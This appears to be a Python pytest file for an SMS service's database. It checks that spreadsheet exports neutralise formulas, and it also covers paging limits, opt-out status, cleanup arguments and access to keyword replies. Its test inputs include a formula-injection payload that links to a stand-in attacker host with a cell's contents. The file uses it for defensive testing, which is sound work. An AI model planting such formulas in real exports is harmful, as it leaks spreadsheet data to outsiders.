"""What React calls: pages and spreadsheets."""

from __future__ import annotations

import psycopg
import pytest

from tests.sql import Db, new_contact

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    *("+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "\uff1d1", "\ufeff=1"),
]


@pytest.mark.parametrize("content", FORMULAS)
async def test_no_spreadsheet_evaluates_an_exported_cell(db: Db, content: str) -> None:
    one, number, contact = await db.session(), await db.number(), new_contact()
    await one.ingest(number, contact, content)
    owner = await db.person(number)
    [row] = await owner.rows("select contact_number, message_content from public.sms_export")
    assert row == {"contact_number": f"'{contact}", "message_content": f"'{content}"}


async def test_an_ordinary_cell_is_exported_as_it_is(db: Db) -> None:
    one, number = await db.session(), await db.number()
    await one.ingest(number, new_contact(), "2 = 1 + 1, no?")
    [row] = await (await db.person(number)).rows("select message_content from public.sms_export")
    assert row["message_content"] == "2 = 1 + 1, no?"


async def test_an_export_holds_the_owner_s_messages_alone(db: Db) -> None:
    one, number = await db.session(), await db.number()
    await one.ingest(number, new_contact(), "hola")
    stranger = await db.person(await db.number())
    assert await stranger.rows("select id from public.sms_export") == []


@pytest.mark.parametrize("call", [
    "select public.get_sms_conversation_history(%s, {})", "select public.search_sms('hola', {})",
])  # fmt: skip
@pytest.mark.parametrize("limit", [0, -1])
async def test_a_page_of_nothing_is_refused(db: Db, call: str, limit: int) -> None:
    one, number = await db.session(), await db.number()
    text = await one.ingest(number, new_contact(), "hola")
    owner = await db.person(number)
    values = [text["conversation_id"]] if "%s" in call else []
    with pytest.raises(psycopg.Error) as refused:
        await owner.rows(call.format(limit), *values)
    assert refused.value.sqlstate == "PT422"
    assert len(await owner.rows(call.format(1), *values)) == 1


async def test_the_inbox_says_who_opted_out_as_the_gate_does(db: Db) -> None:
    """From this number or, as an operator records it, from all; the newest intent counts."""
    one, number, contact = await db.session(), await db.number(), new_contact()
    await one.ingest(number, contact, "hola")
    owner = await db.person(number)

    async def is_opted_out() -> bool:
        [row] = await owner.rows("select is_opted_out from public.sms_inbox")
        gate = await db.admin.value(
            "select sms.is_opted_out(user_id, %s, phone_number) from public.sms_configs"
            " where id = %s",
            *(contact, number.id),
        )
        assert row["is_opted_out"] == gate
        return bool(gate)

    seen = [await is_opted_out()]
    for word in ("STOP", "START"):
        await one.ingest(number, contact, word)
        seen.append(await is_opted_out())
    await db.admin.rows(
        "select public.set_sms_opt_out(user_id, %s) is null as done from public.sms_configs"
        " where id = %s",
        *(contact, number.id),
    )
    assert [*seen, await is_opted_out()] == [False, True, False, True]


@pytest.mark.parametrize("days", ["-1", "0", "null"])
async def test_a_cleanup_of_no_days_is_refused(db: Db, days: str) -> None:
    one, number = await db.session(), await db.number()
    text = await one.ingest(number, new_contact(), "hola")
    await (await db.person(number)).close(text["conversation_id"])
    with pytest.raises(psycopg.Error) as refused:
        await one.rows(f"select public.cleanup_old_sms_conversations({days})")
    assert refused.value.sqlstate == "PT422"
    assert await one.value("select public.cleanup_old_sms_conversations(1)") == 0


async def test_a_keyword_of_another_s_number_is_no_oracle(db: Db) -> None:
    """The refusal is the same whether that number has the keyword or not."""
    number, states = await db.number(), []
    insert = (
        "insert into public.sms_keyword_replies (config_id, keyword, answer) values (%s, %s, 'x')"
    )
    await (await db.person(number)).rows(insert, number.id, "horario")
    stranger = await db.person(await db.number())
    for keyword in ("horario", "direccion"):
        with pytest.raises(psycopg.Error) as refused:
            await stranger.rows(insert, number.id, keyword)
        states.append((refused.value.sqlstate, refused.value.diag.message_primary))
    assert states[0] == states[1]


async def test_a_number_has_so_many_keywords_at_most(db: Db) -> None:
    number = await db.number()
    owner = await db.person(number)
    await db.timing(keyword_replies_ceiling=3)
    insert = (
        "insert into public.sms_keyword_replies (config_id, keyword, answer)"
        " select %s, 'word ' || n, 'x' from generate_series(%s::int, %s::int) as n"
    )
    await owner.rows(insert, number.id, 1, 3)
    with pytest.raises(psycopg.Error) as refused:
        await owner.rows(insert, number.id, 4, 4)
    assert refused.value.sqlstate == "PT422"
